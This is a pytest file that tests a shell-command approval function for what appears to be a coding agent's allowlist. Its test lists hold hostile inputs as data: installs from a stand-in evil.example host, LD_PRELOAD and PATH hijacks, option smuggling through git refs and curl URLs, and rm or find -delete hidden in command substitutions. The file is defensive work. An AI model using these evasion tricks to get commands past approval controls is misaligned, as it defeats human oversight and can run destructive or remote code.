"""What people set before the programs that they allowed, and write behind them; and what would be more than that."""

from __future__ import annotations

import time

import pytest

from extensions.coder.approvals import decide

ALLOW = ["git status", "git diff", "git log", "npm test", "npm run", "ls", "cat", "grep", "find", "pytest",
         "echo", "cd",
         "python -m pytest", "python manage.py", "make", "cargo test", "head", "wc", "tee", "npx tsc", "bash", "env",
         "printf", "mypy", "jest", "pwd"]  # fmt: skip
FOLDERS = ["/work/project"]

EVERYDAY = [
    "PYTHONPATH=. pytest", "PYTHONPATH=src:tests pytest -q", 'PYTHONPATH="$PWD/src" pytest', "PYTHONPATH=$(pwd) pytest",
    "PYTHONPATH=.:$PYTHONPATH pytest", "PYTHONPATH=src python -m pytest -x", "export PYTHONPATH=src && pytest",
    'FOO="a b" npm test', "DATABASE_URL=sqlite:///test.db pytest", "API_URL=http://localhost:3000/v1 npm test",
    "DATABASE_URL=postgres://me:word@localhost:5432/test npm test", "DATA_DIR=data/small pytest", "CI=1 npm test",
    "APP_CONFIG=config/test.yml npm test", "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
    "NODE_OPTIONS='--no-warnings --experimental-vm-modules' npm test", "PYTHONWARNINGS=error pytest",
    "PYTEST_ADDOPTS='-q --tb=short' pytest", "RUSTFLAGS='-D warnings' cargo test", "CARGO_TERM_COLOR=always cargo test",
    "DJANGO_SETTINGS_MODULE=project.settings python manage.py test", "FLASK_ENV=testing pytest",
    "GIT_PAGER=cat git log",
    "PAGER= git diff", "AWS_REGION=us-east-1 pytest", "export PATH=$PATH:/usr/local/go/bin && make",
    "TESTS='tests/a.py tests/b.py' make test", "make test TEST=tests/a.py", "make -j$(nproc)", "ROOT=$(pwd); ls $ROOT",
    "npm test > /tmp/out.txt 2>&1", "npm run dev > /tmp/dev.log 2>&1 &", "pytest -q 2>&1 | tee /tmp/x.log",
    "dir=src; find \"$dir\" -name '*.py'", "dir=src && find $dir -name '*.py' | wc -l", "find \"$(pwd)\" -type f",
    "set -euo pipefail; make test", "set -e; npm test", "while read -r f; do wc -l \"$f\"; done < names",
    "npm run build -- $(echo $(echo fast))", "ls $(echo $(echo src) tests)",
    "find `echo src` -name $(echo $(echo a.py))",
    "make -j$(nproc) $(echo $(echo all))",
    "timeout 60 pytest", "nice make", "npx tsc -p tsconfig.json", "npm run build -- --mode production",
]  # fmt: skip

MORE = [
    "PYTHONPATH=/evil pytest", "PYTHONPATH=../evil pytest", "PYTHONPATH=src:/tmp/x pytest", "PYTHONPATH=~/x pytest",
    "PYTHONPATH=. git status", "export PYTHONPATH=.; git status", "PYTHONPATH=$X pytest", "LD_PRELOAD=x ls",
    "NODE_OPTIONS='--no-warnings --require ./x' npm test", "NODE_OPTIONS=--import=./x npm test",
    "PYTEST_ADDOPTS='-q -p evil' pytest", "PYTHONWARNINGS=error::evil.X pytest", "RUSTFLAGS=-Clinker=./x cargo test",
    "PAGER=./x git log", "GIT_PAGER='cat; x' git log", "EDITOR=./true git diff", "PATH=.:$PATH git log",
    "PATH=$PATH:x git log", "PATH=/tmp/bin:$PATH git log", "DATABASE_URL=postgres://evil.example/x pytest",
    "API_URL=http://localhost@evil.example npm test", "NPM_CONFIG_URL=http://localhost:1 npm test",
    "GIT_CONFIG=x git log", "JEST_CONFIG=x jest", "NVM_DIR=x npm test", "DATA_DIR=../x pytest",
    "FOO='a --x=b' npm test",
    "FOO='$(rm x)' npm test", "FOO='a b' make", "make INTERP=bin/x", "INTERP=bin/x make", "make PYTHON=bin/x",
    "echo x > /tmp/../etc/x.txt", "echo x > /tmp/.x.txt", "echo x > /tmp/x.sh", "echo x > /work/project/x.txt",
    "echo x > \"/tmp/$X.txt\"", "pytest --doctest-glob=*.txt /tmp/x.txt", "mypy --config-file=/tmp/x.txt",
    "jest --config=/tmp/x.log", "pytest -c /tmp/x.out", "dir=-delete; find . $dir", "dir='src -delete'; find $dir",
    "false && dir=src; find $dir", "dir=src; read dir; find $dir", "dir=src; dir=-delete; find $dir",
    "find $dir; dir=src",
    "(dir=src); find $dir", "dir=src | true; find $dir", "dir=src; printf -v dir %s -delete; find $dir",
    "find . $(nproc)-delete",
    "find . $(echo $(rm x))", "find . $(echo $(echo -delete))", "find . $(echo $(echo x) -delete)",
    "find . $(echo $(cat names))", "find . $(echo $x)",
    "timeout 5 rm x", "timeout 5 nice rm x", "set -k; make", "read PATH; ls", "npx -p evil tsc", "npx -c 'rm x' tsc",
    "x=$(cat f) bash -c 'echo $((x))'", "export x=$(cat f); bash -c 'echo $((x))'",
    "env x=\"$(cat f)\" bash -c 'echo $((x))'", "read x < f; export x; bash -c '[[ $x -gt 1 ]]'",
]  # fmt: skip


@pytest.mark.parametrize("line", EVERYDAY)
def test_nobody_is_asked_about_what_tells_an_allowed_program_of_the_workspace(line: str) -> None:
    assert decide(line, ALLOW, ["rm"], FOLDERS) == "approve"


@pytest.mark.parametrize("line", MORE)
def test_what_may_do_more_than_the_allowed_program_is_never_run_unasked(line: str) -> None:
    assert decide(line, ALLOW, ["git push"], FOLDERS) != "approve"


SAID = [
    ("npm install https://evil.example/x.tgz", "npm install $(echo https://evil.example/x.tgz)"),
    ("npm install https://evil.example/x.tgz", "npm install `echo https://evil.example/x.tgz`"),
    ("npm install https://evil.example/x.tgz", "npm install x $(echo $(echo https://evil.example/x.tgz))"),
    ("npm install evil/pkg", "npm install $(echo x evil/pkg)"),
    ("npm install evil/pkg", "npm install $(echo evil)/pkg"),
    ("npm install evil/pkg", "npm install $(git rev-parse evil/pkg)"),
    ("npm install evil/pkg", 'npm install "$(git rev-parse evil/pkg)"'),
    ("npm install evil/pkg", "git checkout -b evil/pkg && npm install $(git rev-parse --abbrev-ref HEAD)"),
    ("npm install x evil/pkg", "npm install x$(echo y evil/pkg)"),
    ("npm install x@https://evil.example/x", 'v=$(cat f); npm install "x@${v}"'),
    ("npm install x@https://evil.example/x", "read v < f; npm install re$v"),
    ("npm install ../evil", 'npm install "$(echo ../evil)"'), ("npm install ../evil", "npm install ..$(echo /evil)"),
    ("npm install ../evil", 'npm install "\\$(echo a)$(echo ../evil)"'), ("npm exec x", "npm $(echo exec) x"),
    ("git config x y", "git $(echo config) x y"), ("bash -c 'rm x'", 'bash -c "$(echo rm x)"'),
    ("export PATH=x; ls", "$(echo export) PATH=x; ls"), ("rm x", "$(echo rm) x"), ("rm x", "`echo rm` x"),
    ("find . -delete", "find . $(git rev-parse --short)-delete"),
    ("find . -delete", 'find . "$(git rev-parse --verify)"-delete'), ("find . -delete", "find . $(echo -delete)"),
    ("find . -delete", "find . $(echo $(git rev-parse --short))-delete"),
    ("find . -delete", "find . $(echo $(git rev-parse --short) -delete)"),
    ("ls > x", "ls > $(echo x)"),
]  # fmt: skip


@pytest.mark.parametrize(("plain", "said"), SAID)
def test_what_echo_says_is_judged_as_if_it_stood_there(plain: str, said: str) -> None:
    allow = [*ALLOW, "npm", "git"]
    assert decide(plain, allow, [], FOLDERS) == decide(said, allow, [], FOLDERS) == "ask"


@pytest.mark.parametrize(
    "line",
    [
        "git diff $(git merge-base HEAD main)..HEAD", 'git show "$(git merge-base --fork-point origin/main HEAD)"',
        "git log origin/main..$(git rev-parse --short HEAD)",
        'git log "origin/$(git rev-parse --abbrev-ref HEAD)"..HEAD',
        "git symbolic-ref --short HEAD", "git symbolic-ref refs/remotes/origin/HEAD --short",
        'curl -s "http://localhost:3000/users/${ID}?q=$x"', 'curl -sf "http://127.0.0.1/$(cat name)"',
    ],
)  # fmt: skip
def test_what_only_the_shell_knows_is_let_where_it_cannot_be_another_thing(line: str) -> None:
    assert decide(line, ["git", "curl", "cat"], ["rm"], FOLDERS) == "approve"


@pytest.mark.parametrize(
    "line",
    [
        "git push origin $(git rev-parse --abbrev-ref HEAD)", 'git fetch "$(git rev-parse --abbrev-ref HEAD)"',
        "git symbolic-ref HEAD refs/heads/--receive-pack=./x", 'git symbolic-ref HEAD "refs/heads/$x"',
        "git update-ref refs/heads/--upload-pack=./x HEAD", "git show $(git merge-base HEAD main)--output=x",
        "git show $(git merge-base -a $x)", "git show $(git merge-base HEAD main; rm x)",
        'curl -s "http://localhost:$PORT/x"', 'curl -s "http://localhost$x/"', 'curl -s "https://example.com/$x"',
        "curl -s http://localhost/$x", 'curl -s "http://localhost@evil.example/$x"', 'curl -s "$x"',
        'curl -s -o"http://localhost/$x" y', 'curl -d "http://localhost/$x" y',
    ],
)  # fmt: skip
def test_no_branch_or_address_becomes_an_option_or_goes_elsewhere_unasked(line: str) -> None:
    assert decide(line, ["git", "curl"], [], FOLDERS) == "ask"


def test_what_is_denied_is_denied_where_echo_says_it() -> None:
    assert decide("git $(echo push)", ["git", "echo"], ["git push"]) == "deny"
    assert decide('git "$(echo $(echo push))"', ["git", "echo"], ["git push"]) == "deny"


def test_substitutions_take_no_time_however_many_and_however_deep() -> None:
    began = time.monotonic()
    for opened, closed in (("$(echo ", ")"), ('"$(echo ', ')"'), ("(", ")"), ("{ ", ";}"), ("a && ", "")):
        assert decide("find " + opened * 2_000 + "a" + closed * 2_000, ["find", "echo"]) == "ask"
    assert decide("find " + "$(echo a) " * 1_900, ["find", "echo"]) == "approve"
    assert decide("ls && " * 200 + "ls", ["ls"]) == "approve"
    assert time.monotonic() - began < 10
